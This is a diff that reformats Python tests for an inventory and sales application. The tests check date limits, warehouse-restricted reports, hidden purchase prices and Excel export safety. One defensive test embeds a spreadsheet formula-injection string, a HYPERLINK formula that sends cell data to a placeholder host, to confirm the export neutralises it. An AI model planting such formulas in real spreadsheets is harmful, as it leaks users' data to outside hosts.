@@ -23,8 +23,12 @@ def person(role: str, warehouses=()):
     u = get_user_model().objects.create_user(f"u-{role}", password="pw-123456")
     u.groups.add(Group.objects.get(name=role))
     for w in warehouses:
-        WarehouseAccess.objects.create(user=u, warehouse_id=__import__("openjxc.inventory.models", fromlist=["x"])
-                                       .Warehouse.objects.get(code=w).id)
+        WarehouseAccess.objects.create(
+            user=u,
+            warehouse_id=__import__("openjxc.inventory.models", fromlist=["x"])
+            .Warehouse.objects.get(code=w)
+            .id,
+        )
     return u
 
 
@@ -32,8 +36,10 @@ def person(role: str, warehouses=()):
 def sales(user):
     doc(user, "purchase_receipt", "2026-03-01", [("A001", 10, "5.00")])
     doc(user, "purchase_receipt", "2026-03-01", [("A002", 10, "1.00")], warehouse="WH2")
-    return [doc(user, "sales_delivery", "2026-03-02", [("A001", 1, "9.00")]),
-            doc(user, "sales_delivery", "2026-03-02", [("A002", 1, "3.00")], warehouse="WH2")]
+    return [
+        doc(user, "sales_delivery", "2026-03-02", [("A001", 1, "9.00")]),
+        doc(user, "sales_delivery", "2026-03-02", [("A002", 1, "3.00")], warehouse="WH2"),
+    ]
 
 
 def test_absurd_dates_are_refused_and_reads_create_no_periods(client, user):
@@ -44,10 +50,18 @@ def test_absurd_dates_are_refused_and_reads_create_no_periods(client, user):
     assert r.status_code == 422
     r = client.get("/reports/sales/details/?from=2026-01-01&to=2999-12-31")
     assert r.status_code == 200
-    assert Period.objects.exists() and not Period.objects.filter(start__gt=timezone.localdate()).exists()
+    assert (
+        Period.objects.exists()
+        and not Period.objects.filter(start__gt=timezone.localdate()).exists()
+    )
     assert client.get("/audit/?date_to=9999-12-31&date_from=0001-01-01").status_code == 200
-    body = {"type": "purchase_receipt", "date": "9999-12-31", "partner": "S001", "warehouse": "WH1",
-            "lines": [{"item": "A001", "qty": "1", "price": "1"}]}
+    body = {
+        "type": "purchase_receipt",
+        "date": "9999-12-31",
+        "partner": "S001",
+        "warehouse": "WH1",
+        "lines": [{"item": "A001", "qty": "1", "price": "1"}],
+    }
     with pytest.raises(DomainError) as exc:
         from openjxc.documents.services import create_draft
 
@@ -66,7 +80,8 @@ def test_statement_page_and_share_links_need_the_partner_area(client, user, api)
     from tests.factories import fetch
 
     assert fetch("SELECT action, object FROM audit_auditentry ORDER BY id DESC LIMIT 1") == [
-        ("share_statement", "C001")]
+        ("share_statement", "C001")
+    ]
 
 
 def test_sales_reports_keep_to_the_users_warehouses(client, sales):
@@ -74,8 +89,11 @@ def test_sales_reports_keep_to_the_users_warehouses(client, sales):
     client.force_login(clerk)
     html = client.get("/reports/sales/details/?from=2026-03-01&to=2026-03-31").content.decode()
     assert sales[1] in html and sales[0] not in html
-    rows = details("sales", *[__import__("datetime").date(2026, 3, d) for d in (1, 31)],
-                   warehouse_ids={clerk.warehouse_access.get().warehouse_id})["items"]
+    rows = details(
+        "sales",
+        *[__import__("datetime").date(2026, 3, d) for d in (1, 31)],
+        warehouse_ids={clerk.warehouse_access.get().warehouse_id},
+    )["items"]
     assert [r["document"] for r in rows] == [sales[1]]
 
 
@@ -93,10 +111,17 @@ def test_excel_never_turns_text_into_a_formula(db):
     from openjxc.reports.excel import xlsx_response
 
     name = '=HYPERLINK("http://x/?"&A1,"点击")'
-    r = xlsx_response("x.xlsx", "x", [("item_name", "名称"), ("qty", "数量")],
-                      [{"item_name": name, "qty": "-3"}, {"item_name": "+1 杯", "qty": "2.5"}])
+    r = xlsx_response(
+        "x.xlsx",
+        "x",
+        [("item_name", "名称"), ("qty", "数量")],
+        [{"item_name": name, "qty": "-3"}, {"item_name": "+1 杯", "qty": "2.5"}],
+    )
     ws = load_workbook(io.BytesIO(r.content)).active
-    assert [[c.value for c in row] for row in ws.iter_rows(min_row=4)] == [["'" + name, -3], ["'+1 杯", 2.5]]
+    assert [[c.value for c in row] for row in ws.iter_rows(min_row=4)] == [
+        ["'" + name, -3],
+        ["'+1 杯", 2.5],
+    ]
     assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
 
 
@@ -112,7 +137,9 @@ def test_a_damaged_upload_is_a_clear_error_not_a_crash(user):
     with zipfile.ZipFile(out, "w") as z:
         for info in src.infolist():
             data = src.read(info.filename)
-            z.writestr(info, data[: len(data) // 2] if info.filename.endswith("sheet1.xml") else data)
+            z.writestr(
+                info, data[: len(data) // 2] if info.filename.endswith("sheet1.xml") else data
+            )
     with pytest.raises(DomainError) as exc:
         import_items(user, out.getvalue(), commit=False)
     assert exc.value.code == "invalid_file"
@@ -123,7 +150,9 @@ def test_who_may_not_see_purchase_prices_may_not_set_them(user):
     from openjxc.catalog.services import create_item
 
     keeper = person("库管")
-    item = create_item(keeper, {"code": "K1", "name": "库管建的", "unit": "个", "purchase_price": "9.99"})
+    item = create_item(
+        keeper, {"code": "K1", "name": "库管建的", "unit": "个", "purchase_price": "9.99"}
+    )
     assert Item.objects.get(code="K1").purchase_price is None and item["purchase_price"] is None
 
 
@@ -139,6 +168,10 @@ def test_purchase_prices_on_documents_are_hidden_from_who_may_not_see_cost(clien
 
     token = issue_token("u-库管", "pw-123456")
     data = client.get(f"/api/v1/documents/{number}", HTTP_AUTHORIZATION=f"Bearer {token}").json()
-    assert data["amount"] is None and data["lines"][0]["price"] is None and data["lines"][0]["qty"] == "10"
+    assert (
+        data["amount"] is None
+        and data["lines"][0]["price"] is None
+        and data["lines"][0]["qty"] == "10"
+    )
     client.force_login(user)
     assert "56.50" in client.get(f"/doc/{number}/").content.decode()
